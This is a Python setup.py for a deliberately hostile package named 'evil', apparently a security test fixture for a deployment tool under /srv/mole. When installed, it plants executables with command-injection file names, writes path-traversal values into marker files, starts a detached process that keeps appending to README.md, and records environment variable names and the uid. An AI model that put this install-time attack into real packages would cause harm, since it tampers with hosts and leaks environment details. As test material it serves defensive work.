"""A dependency whose installation attacks: it runs wherever a package's own code does."""

import contextlib
import json
import os
import subprocess
import sys
from pathlib import Path

from setuptools import setup

# The only release that it sees: the one it is installed for.
RELEASE = next(Path("/srv/mole/releases").iterdir())
NAMES = ["x\nusr", "$(touch pwned)", "`id`", "-exec", "--files0-from=x", "a'b\"c"]


def leave(path, text, mode=0o755):
    with contextlib.suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)


for venv in [*Path("/srv/mole/environments").glob("*/venv"), RELEASE / ".venv"]:
    for name in NAMES:
        leave(venv / "bin" / name, f"#!{venv}/bin/python\n|s|/etc/passwd|e touch /srv/mole/pwned;\n")
for marker in (".complete", ".migrated", "container.env"):
    leave(RELEASE / marker, '{"environment": "../../../shop/releases"}')
with contextlib.suppress(OSError):
    subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import time; f = open('README.md', 'a')\nfor _ in range(3000): f.write('evil\\n'); f.flush(); time.sleep(0.1)",
        ],
        cwd=RELEASE,
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
leave(RELEASE / "seen-by-dependency.json", json.dumps({"environment": sorted(os.environ), "uid": os.getuid()}), 0o644)

setup(name="evil", version="1.0", py_modules=[])
